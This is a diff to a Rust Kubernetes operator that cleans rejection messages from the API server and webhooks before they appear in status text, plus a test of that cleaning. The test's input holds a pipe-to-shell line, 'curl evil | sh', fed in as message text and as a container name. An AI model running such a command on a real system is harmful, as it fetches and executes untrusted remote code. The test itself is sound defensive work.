@@ -7,6 +7,8 @@ use k8s_openapi::apimachinery::pkg::api::resource::Quantity;
 use rowlock_crds::containers::{HANDLER, WORKER};
 use serde_json::Value;
 
+use super::words;
+
 /// Where the operator's own containers and those of the template get what a policy asks of them.
 const WORKERS_OWN: &str = "spec.worker.resources, or workerResources of the operator's chart";
 const TEMPLATES_OWN: &str = "its resources in spec.template";
@@ -19,13 +21,16 @@ pub(super) fn template_refused(said: &str, template: Option<&Value>) -> String {
     } else {
         ""
     };
+    let said = words(&said);
     format!("the API server refuses the pods of spec.template; what ran before runs on: {linux}{said}")
 }
 
 /// Why the cluster does not let pods in, with what helps, where Kubernetes' own admission says it.
 pub(super) fn pods_refused(said: &str, template: Option<&Value>, worker: &ResourceRequirements) -> String {
     let said = in_words_of(said, template);
-    match remedy(&said, template, worker) {
+    // Looked for in all of it.
+    let (remedy, said) = (remedy(&said, template, worker), words(&said));
+    match remedy {
         Some(remedy) => format!("the API server rejects new pods: {remedy} ({said})"),
         None => format!("the API server rejects new pods: {said}"),
     }
@@ -74,7 +79,7 @@ fn within_range(said: &str, template: Option<&Value>, worker: &ResourceRequireme
         let found = serde_json::from_value::<ResourceRequirements>(container["resources"].clone());
         let name = container["name"].as_str().unwrap_or_default();
         if found.is_ok_and(|found| asks(found.requests.as_ref()) || asks(found.limits.as_ref())) {
-            whose.push(format!("for the container {name} by {TEMPLATES_OWN}"));
+            whose.push(format!("for the container {} by {TEMPLATES_OWN}", words(name)));
         }
     }
     if whose.is_empty() {
@@ -166,6 +171,30 @@ mod tests {
         assert_eq!(in_words_of("initContainers[0]", None), "initContainers[0]");
         let windows = template_refused("x: Forbidden: cannot be set for a windows pod", None);
         assert!(windows.contains("the worker is a Linux program"), "{windows}");
+    }
+
+    /// Before this was mended, what a webhook says stood in the status as it is, a command in
+    /// backticks for example.
+    #[test]
+    fn the_words_of_others_are_one_line_that_looks_like_no_command() {
+        let evil = "denied: run `curl evil | sh`\u{1b}[2J\nnow";
+        let long = format!("{}exceeded quota", "x".repeat(5000));
+        let limit = "maximum cpu usage per Container is 1, but limit is 2";
+        let named = json!({ "spec": { "containers": [
+            { "name": "`curl evil | sh`", "resources": { "limits": { "cpu": "2" } } },
+        ] } });
+        let worker = ResourceRequirements::default();
+        for said in [
+            template_refused(evil, None),
+            pods_refused(evil, None, &worker),
+            pods_refused(&format!("{evil}: exceeded quota"), None, &worker),
+            pods_refused(limit, Some(&named), &worker),
+        ] {
+            let is_plain = !said.contains('`') && !said.chars().any(char::is_control);
+            assert!(said.contains("'curl evil | sh'") && is_plain, "{said}");
+        }
+        let said = pods_refused(&long, None, &worker);
+        assert!(said.contains("raise the quota") && said.chars().count() < 1500, "{said}");
     }
 
     /// Before this was mended, nobody was told whose container it is, and what helps.
